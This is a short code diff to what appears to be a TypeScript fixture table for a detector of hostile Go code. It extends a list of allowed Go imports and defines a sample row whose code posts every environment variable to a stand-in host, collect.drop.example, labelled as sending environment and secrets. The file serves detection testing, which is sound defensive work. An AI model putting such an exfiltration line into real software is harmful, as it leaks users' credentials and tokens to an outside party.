@@ -1,7 +1,7 @@
 import type { Row } from './row.ts'
 
 /** Bodies of functions. Each may use what is imported here. */
-export const GO_IMPORTS = ['bytes', 'net', 'net/http', 'os', 'os/exec', 'path/filepath', 'strings', 'time']
+export const GO_IMPORTS = ['bufio', 'bytes', 'context', 'crypto/tls', 'encoding/base64', 'encoding/hex', 'fmt', 'io', 'net', 'net/http', 'net/url', 'os', 'os/exec', 'path/filepath', 'strings', 'syscall', 'time']
 
 export const go: readonly Row[] = [
   { id: 'environment', at: 'import', finds: ['did-send-environment', 'did-send-secrets'], target: /collect\.drop/, code: `«http.Post("http://collect.drop.example/e", "text/plain", strings.NewReader(strings.Join(os.Environ(), "\\n")))»` },
